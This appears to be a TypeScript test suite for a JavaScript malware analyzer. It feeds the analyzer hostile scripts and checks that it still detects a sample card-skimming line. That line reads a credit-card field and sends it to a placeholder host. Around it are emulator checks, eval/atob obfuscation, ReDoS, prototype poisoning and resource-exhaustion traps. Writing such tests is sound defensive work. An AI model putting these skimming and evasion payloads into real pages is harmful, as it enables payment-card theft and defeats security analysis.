import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { createAnalyzer, type Analyzer } from '../../analyzer/index.ts';
import { analysis as schema, type Analysis } from '../../core/schema/index.ts';

const samples = fileURLToPath(new URL('../../samples/scripts/', import.meta.url));
const field = `document.querySelector('#cc-number').value`;
const theft = `new Image().src = 'https://stats.invalid/?' + btoa(${field});`;

const nested = (depth: number): string => {
  let code = theft;
  for (let level = 0; level < depth && code.length < 200_000; level++) code = `eval(atob('${btoa(code)}'))`;
  return code;
};
/** Nested without growing by a third each time: each level holds the next by name. */
const chained = Array.from({ length: 200 }, (_, level) => `var e${level} = 'eval(e${level + 1})';`).join(
  '\n',
);

/** Scripts that fight back; each carries the theft, so that there is something to find. */
const hostile: Record<string, string> = {
  'looks for an emulator':
    `if (navigator.webdriver || !window.chrome || window.outerHeight - window.innerHeight > 200) throw 1;` +
    `if (document.createElement('canvas').toDataURL().length < 10) throw 2;` +
    `if (!/native code/.test(Function.prototype.toString.call(document.querySelector))) throw 3; ${theft}`,
  'never ends': `${theft} for (;;);`,
  'sorts without end in a native call': `${theft} var a = []; a.length = 3e7; a.fill(1); for (;;) a.sort();`,
  'joins a sparse array': `${theft} var a = []; a[4294967294] = 1; a.join('x').length;`,
  'doubles a text': `${theft} var s = 'x'; for (;;) s += s;`,
  'fills memory': `${theft} var all = []; for (;;) all.push(new Uint8Array(1e6).fill(1));`,
  'sets ten thousand timers': `for (var i = 0; i < 10000; i++) setTimeout(function () { ${theft} }, i);`,
  'throws proxies': `${theft} throw new Proxy({}, { get: function () { throw this; }, getPrototypeOf: function () { for (;;); } });`,
  'answers every question with itself':
    `${theft} var p = new Proxy(function () {}, { get: function () { return p; }, apply: function () { return p; } });` +
    `fetch(p, p); document.body.appendChild(p); p.then(p); JSON.stringify(p);`,
  'sets toString traps':
    `${theft} var t = { toString: function () { for (;;); }, valueOf: function () { throw t; } };` +
    `fetch('https://x.invalid/' + t); document.querySelector(t); localStorage.setItem(t, t);`,
  'spoils prototypes':
    `Object.prototype.then = Array.prototype.push = JSON.stringify = function () { throw 1; };` +
    `Object.defineProperty(Object.prototype, 'kind', { set: function () { for (;;); } });` +
    `String.prototype.includes = RegExp.prototype.exec = function () { return true; }; ${theft}`,
  'has a catastrophic expression': `${theft} /^(a+)+$/.test('${'a'.repeat(60)}b'); /(x+x+)+y/.exec('${'x'.repeat(60)}');`,
  'decodes a huge text': `var s = '${btoa('abc'.repeat(60_000))}'; var t = ''; while (t.length < 2e8) t += atob(s); ${theft}`,
  'hides 200 evals deep, by name': `${chained}\nvar e200 = ${JSON.stringify(theft)}; eval(e0);`,
  'hides in evals until it is large': nested(200),
  'recurses without end': `${theft} function f() { f(); } f();`,
  'promises without end': `${theft} (function f() { Promise.resolve().then(f); })();`,
  'writes itself': `document.write('<script>' + document.currentScript.textContent + '</' + 'script>'); ${theft}`,
  'flattens without end':
    `var _0x1a = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'], _0x1b = '2|0|1'.split('|'), _0x1c = 0;` +
    `function _0x2a(n) { for (;;) _0x1a.push(_0x1a.shift()); return _0x1a[n]; }` +
    `${Array.from({ length: 12 }, (_, n) => `window[_0x2a(0x${n.toString(16)})];`).join('')} ${theft}`,
};

describe('analyzer: scripts that fight back', function () {
  this.timeout(120_000);
  let analyzer: Analyzer;
  before(async () => {
    analyzer = await createAnalyzer({ workers: 2 });
  });
  after(() => analyzer.close());

  const judge = async (text: string, path = 'a.js'): Promise<Analysis> => {
    const { analysis } = await analyzer.analyze({ path, bytes: Buffer.from(text) });
    return schema.parse(analysis);
  };
  /** The analyzer still works as it did, and nothing of it was changed from inside. */
  const assertUnharmed = async (): Promise<void> => {
    assert.equal(({} as { then?: unknown }).then, undefined);
    const found = await judge(theft);
    assert.deepEqual([found.partial, found.behaviour.fields], [false, ['#cc-number']]);
  };

  for (const [name, text] of Object.entries(hostile)) {
    it(`judges one that ${name}`, async () => {
      const found = await judge(text);
      assert.notEqual(found.verdict, 'unanalysed');
      await assertUnharmed();
    });
  }

  it('judges all of them at once', async () => {
    const found = await Promise.all(Object.values(hostile).map((text) => judge(text)));
    assert.ok(found.every(({ verdict }) => verdict !== 'unanalysed'));
    await assertUnharmed();
  });

  it('judges any text', async () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc
        .constantFrom(...Object.values(hostile).filter((text) => text.length < 2_000))
        .map((text) => text.slice(0, 150)),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 6 }), async (pieces) => {
        await judge(pieces.join('\n'));
      }),
      { numRuns: 40, seed: 11 },
    );
    await assertUnharmed();
  });

  it('judges our own samples, cut, doubled and mixed', async () => {
    const texts: string[] = [];
    for (const name of (await readdir(samples, { recursive: true }))
      .filter((one) => one.endsWith('.js'))
      .sort())
      texts.push(await readFile(join(samples, name), 'utf8'));
    const place = fc.double({ min: 0, max: 1, noNaN: true });
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...texts),
        fc.constantFrom(...texts),
        place,
        place,
        fc.constantFrom('\u0000', '\\', '`', '/*', '}', '\u2028', '"', ''),
        async (one, other, from, to, between) => {
          const head = one.slice(0, Math.round(from * one.length));
          await judge(head + between + other.slice(Math.round(to * other.length)));
        },
      ),
      { numRuns: 60, seed: 11 },
    );
    await assertUnharmed();
  });
});
